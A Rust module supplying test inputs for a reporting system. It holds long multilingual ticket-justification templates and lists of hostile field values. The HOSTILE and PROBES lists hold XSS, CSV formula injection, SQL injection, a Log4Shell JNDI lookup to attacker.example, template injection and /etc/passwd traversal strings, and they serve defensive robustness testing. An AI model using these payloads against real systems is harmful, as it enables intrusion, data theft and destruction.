//! Texts that a careless program trips over: long, of many lines, of many scripts, or hostile.

/// Justifications of several hundred characters and more; templates.
pub(super) const LONG: &[&str] = &[
    "Change {ticket}, as agreed in the weekly board.\n\n1. Take {device} out of the pool.\n2. Stop the application, wait for open \
     sessions (at most {n} minutes).\n3. Sign in as {username}, apply the package, compare checksums.\n4. Start, watch the log for ten minutes.\n\
     5. Put it back into the pool.\n\nRollback: snapshot from last night; decision by the owner at half time. Contacts are in the \
     ticket. If the owner cannot be reached, the operations centre decides — \"better late than wrong\", as they say.",
    "Post-mortem follow-up for {ticket} 🔥\n\nWhat we saw: {device} answered on {endpoint}, but every third request timed out. What we \
     think: the connection pool was exhausted, because a job opened sessions and never closed them 🤦. What I want to do with \
     {username}:\n\n- list open sessions and group them by client 📋\n- end those older than {n} minutes ✂️\n- raise the limit only if \
     the first two are not enough ⚠️\n\nI will write the numbers into the ticket before and after, with screenshots. Nobody else should \
     work on {group} in the meantime; I have told the operations centre and the people in {site}. 👩🏽‍💻👨‍👩‍👧‍👦🇵🇹",
    "טיפול בתקלה {ticket} בשרת {device}.\n\nהלקוחות באתר {site} מדווחים על ניתוקים מאז הבוקר. אתחבר בתור {username} אל {endpoint}, אבדוק את \
     יומן האירועים, ואם יהיה צורך אפעיל מחדש את השירות \"billing-gateway\" (גרסה 4.2.1). בסיום אעדכן את הקריאה, אצרף את תוצאות הבדיקה \
     ואודיע למוקד. אין השפעה על מערכות אחרות, והגיבוי האחרון הסתיים בהצלחה בשעה 01:04.\n\nبعد الانتهاء سيتم إبلاغ الفريق في دبي، مع تقرير كامل عن الجهاز {device}.",
    "{ticket}\r\n\r\nQuarterly access review. For each account of {group} in {site} the reviewer signs in once, shows that the account is \
     under management, and changes nothing. Quoting the policy, section 4.3: \"Privileged accounts shall be reviewed at least every \
     ninety days by somebody who does not use them. The review covers purpose, owner, last use, last change of the password, members of \
     the groups that may see it, and exceptions that were granted; it is recorded together with evidence, and kept for seven \
     years.\"\r\n\r\nPrevious findings that have to be looked at again:\r\n\t- {username} on {device}: no owner since the reorganisation; \
     the head of the department has been asked three times ('soon', 'next week', 'after the holidays').\r\n\t- Two shared accounts are \
     used for the nightly transfer and by people as well; the transfer is to get an account of its own.\r\n\t- Emergency access was \
     used {n} times without a ticket. Each use has to be explained by the person and approved by the lead afterwards.\r\n\r\nThe review \
     follows the sample that the auditors drew (every seventh account, sorted by name, starting with the third). Where an account \
     cannot be reviewed because the device is out of service, the reviewer writes down since when, who said so, and when it comes \
     back. Results go to internal audit by Friday, 17:00 Lisbon time; colleagues in São Paulo, Tel Aviv and Pune please mind the \
     difference. Questions: ask me, or anybody in identity and access. If you find something that cannot wait, do not put it into \
     the sheet: call the operations centre. Accounts that turn out to be in use \
by nobody are disabled first, and removed only after thirty days without a complaint. Thank you all for the patience, I know that this is not the most exciting day of the \
     quarter. — Zoë",
];

/// What an attacker, or a colleague with too much time, types into a field. The reports must show it, and do nothing else with it.
pub(super) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "\"><img src=x onerror=alert(document.cookie)>",
    "'; DROP TABLE password_view; --",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "\u{202e}txt.exe harmless\u{202c} and a \u{7}bell, a \u{1b}[31mcolour\u{1b}[0m, a null-like \u{2400}",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "${jndi:ldap://attacker.example/a} {{7*7}} %s%s%s%n ../../../../etc/passwd",
    "Z̸̢͚a̵̡̙l̷̛̰g̸̙͝ö̶̙ ﷽ 𝕬𝖉𝖒𝖎𝖓 \u{200b}\u{200d}\u{feff}",
];

/// Names with which strangers try to sign in.
pub(super) const PROBES: &[&str] =
    &["admin", "root", "test", "administrator", "guest", "' OR '1'='1", "<script>alert(1)</script>", "oracle", "backup", "user%00admin"];

/// Every so many views a hostile justification, and every so many a long one.
const HOSTILE_EVERY: u64 = 211;
const LONG_EVERY: u64 = 173;

/// The hostile text for the event of this number, for a few numbers.
pub(super) fn hostile(serial: u64) -> Option<&'static str> {
    (serial % HOSTILE_EVERY == 60).then(|| HOSTILE[(serial / HOSTILE_EVERY) as usize % HOSTILE.len()])
}

/// The long template for the event of this number, for a few numbers.
pub(super) fn long(serial: u64) -> Option<&'static str> {
    (serial % LONG_EVERY == 5).then(|| LONG[(serial / LONG_EVERY) as usize % LONG.len()])
}
